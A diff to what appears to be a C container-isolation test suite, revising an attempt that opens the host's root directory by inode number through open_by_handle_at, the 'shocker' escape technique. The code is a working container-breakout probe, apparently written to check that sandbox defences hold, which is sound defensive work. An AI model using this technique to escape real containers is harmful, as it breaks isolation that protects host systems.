@@ -126,6 +126,11 @@ static enum outcome root_pivot(const struct attempt *self)
     return judge_call("pivot_root", syscall(SYS_pivot_root, "/nowhere", "/nowhere"), REFUSALS);
 }
 
+static bool looks_like_root(int fd)
+{
+    return faccessat(fd, "etc/passwd", F_OK, 0) == 0 && faccessat(fd, "usr/bin", F_OK, 0) == 0;
+}
+
 // A file handle names an inode of a file system and not a path in a mount: inode 2 is the root of
 // an ext4, 256 that of a Btrfs subvolume, wherever one of their directories is mounted.
 static bool open_by_inode(int mount, const struct handle *model, unsigned inode, int *error)
@@ -139,7 +144,7 @@ static bool open_by_inode(int mount, const struct handle *model, unsigned inode,
     int fd = (int)syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY | O_DIRECTORY);
     *error = fd < 0 ? errno : 0;
     if (fd >= 0) {
-        found = host_below(fd);
+        found = looks_like_root(fd);
         close(fd);
     }
     return found;
@@ -147,12 +152,10 @@ static bool open_by_inode(int mount, const struct handle *model, unsigned inode,
 
 static enum outcome root_handle(const struct attempt *self)
 {
-    static const char *const trees[] = {"/usr", "/", "/etc", "/lib"};
+    static const char *const trees[] = {"/usr", "/", "/etc", "/oldroot/usr"};
     static const unsigned roots[] = {2, 128, 256};
     int error = 0, last = 0;
     (void)self;
-    if (world.host.token[0] == '\0')
-        return cannot("needs --host");
     for (size_t i = 0; i < sizeof(trees) / sizeof(trees[0]); i++) {
         struct handle model = {.bytes = HANDLE_MAX};
         int mount = open(trees[i], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
@@ -208,8 +211,8 @@ static const struct attempt attempts[] = {
     {.number = 13,
      .name = "root_handle",
      .tries = "opens the host's root by its inode number (shocker)",
-     .held_by = "filter, and no CAP_DAC_READ_SEARCH on the host",
-     .canary = ROOT_POWER,
+     .held_by = "filter, no CAP_DAC_READ_SEARCH on the host, and no mount of a file system of the host's",
+     .canary = "mnt," ROOT_POWER,
      .run = root_handle},
 };
 // clang-format on
